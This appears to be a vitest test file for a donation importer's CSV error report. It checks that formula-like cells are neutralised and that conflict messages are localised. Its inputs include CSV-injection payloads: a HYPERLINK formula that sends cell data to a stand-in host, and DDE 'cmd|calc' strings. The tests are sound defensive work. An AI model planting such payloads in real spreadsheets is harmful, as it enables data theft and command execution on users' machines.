import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { memoryRig } from '../importer.test-util';
import { conflictText, ErrorReportWriter } from './errorReport';
import { runImport } from './importRun';

describe('the import error report is formula-safe', () => {
  it('writes inert XLSX text cells that look like formulas as quoted text, numbers as they were', async () => {
    const { gateway, dataDir } = await memoryRig();
    const xlsx = join(dataDir, 'saldırı.xlsx');
    const wb = new ExcelJS.stream.xlsx.WorkbookWriter({ filename: xlsx, useSharedStrings: true });
    const ws = wb.addWorksheet('Liste');
    ws.addRow(['Makbuz No', 'Bağışçı', 'Tutar', 'Tarih']).commit();
    // Text cells (not formulas) in the workbook: inert there, live if written to CSV as they are.
    ws.addRow(['=HYPERLINK("http://x.example/?d="&A1,"aç")', '\u00a0@SUM(A1)', -3, new Date(Date.UTC(2024, 2, 6))]).commit();
    ws.addRow(['\uFF1D1+1', ' +cmd|calc', 'yüz', new Date(Date.UTC(2024, 2, 7))]).commit();
    await wb.commit();

    const out = await runImport(
      { path: xlsx, collection: 'donations', mapping: ['receiptNo', 'donorName', 'amount', 'date'], mode: 'insert' },
      { gateway, dataDir, lang: 'tr', batchRows: 5, retry: { attempts: 1, sleep: async () => undefined }, today: '2025-06-01' },
    );
    expect(out.failed).toBe(2);
    const text = readFileSync(out.reportFile!).subarray(3).toString('utf8');
    const rows = Papa.parse<string[]>(text.trim(), { delimiter: ';' }).data;
    expect(rows[1]!.slice(0, 4)).toEqual([`'=HYPERLINK("http://x.example/?d="&A1,"aç")`, `'\u00a0@SUM(A1)`, '-3', '06.03.2024']);
    expect(rows[2]!.slice(0, 3)).toEqual([`'\uFF1D1+1`, `' +cmd|calc`, 'yüz']);
    // No cell of the file, the error column included, starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+@\uFF1D]/u);
  });
  it.each([',', ';'] as const)('with %j as its delimiter, quotes every cell holding any separator and neutralises a formula after one', async (delimiter) => {
    const dir = mkdtempSync(join(tmpdir(), 'report-split-'));
    const writer = await ErrorReportWriter.open(join(dir, 'r.csv'), ['Ad', 'Not'], { encoding: 'utf-8', delimiter, lineEnding: '\r\n' }, 'tr');
    await writer.add(["x;=cmd|' /C calc'!A0", 'x,=1+1'], 'Satır 2: hata');
    const text = readFileSync(await writer.commit(), 'utf8');
    rmSync(dir, { recursive: true, force: true });
    expect(text.split('\r\n')[1]).toBe([`"x;'=cmd|' /C calc'!A0"`, `"x,'=1+1"`, 'Satır 2: hata'].join(delimiter));
  });
  it("neutralises a header cell of the source file that starts a formula (the report's first row is the file's header row)", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'report-header-'));
    const writer = await ErrorReportWriter.open(join(dir, 'r.csv'), ['=HYPERLINK("http://x.example")', ' @SUM(A1)', 'Ad'], { encoding: 'utf-8', delimiter: ';', lineEnding: '\r\n' }, 'tr');
    await writer.add(['a', 'b', 'c'], 'Satır 2: hata');
    const text = readFileSync(await writer.commit(), 'utf8');
    rmSync(dir, { recursive: true, force: true });
    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe(`"'=HYPERLINK(""http://x.example"")";' @SUM(A1);Ad;Hata`);
  });
});

describe('conflict values in the error report', () => {
  const stored = { amount: 125050, currency: 'EUR', date: '2025-01-05', method: 'kredi_karti', purpose: null, donorName: '=HYPERLINK("http://x.example")' };

  it('shows the stored values as Records does, in the report language', () => {
    expect(conflictText('donations', 7, stored, 'tr')).toBe(
      'Satır 7: Çakışma — kayıt provadan sonra değişti, yazılmadı; şimdiki değer: ' +
        'Tutar = 1.250,50 €, Para Birimi = EUR, Tarih = 05.01.2025, Ödeme Şekli = Kredi Kartı, Bağış Türü = —, Bağışçı Adı = =HYPERLINK("http://x.example")',
    );
    expect(conflictText('donations', 7, stored, 'en')).toBe(
      'Row 7: Conflict — the record changed after the dry run and was not written; stored now: ' +
        'Amount = €1,250.50, Currency = EUR, Date = 05.01.2025, Payment method = Credit card, Purpose = —, Donor name = =HYPERLINK("http://x.example")',
    );
    expect(conflictText('beneficiaries', 3, { phone: '+905421234567', monthlyIncome: 650000 }, 'en')).toBe(
      'Row 3: Conflict — the record changed after the dry run and was not written; stored now: Phone = 0542 123 45 67, Monthly income = ₺6,500.00',
    );
    expect(conflictText('beneficiaries', 3, null, 'tr')).toBe('Satır 3: Çakışma — kayıt provadan sonra değişti, yazılmadı; şimdiki değer: kayıt silinmiş');
  });

  it('writes a conflict row whose cells, the error text included, cannot start a formula', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rapor-'));
    try {
      const writer = await ErrorReportWriter.open(join(dir, 'r.csv'), ['Makbuz No', 'Bağışçı'], { encoding: 'utf-8-bom', delimiter: ';', lineEnding: '\r\n' }, 'tr');
      await writer.add(['-MK1', '@SUM(A1)'], conflictText('donations', 2, stored, 'tr'));
      const text = readFileSync(await writer.commit()).subarray(3).toString('utf8');
      const rows = Papa.parse<string[]>(text.trim(), { delimiter: ';' }).data;
      expect(rows[1]).toEqual([`'-MK1`, `'@SUM(A1)`, conflictText('donations', 2, stored, 'tr')]);
      expect(rows[1]![2]).toContain('Tutar = 1.250,50 €');
      for (const cell of rows[1]!) expect(cell).not.toMatch(/^\s*[=+\-@\uFF1D]/u);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
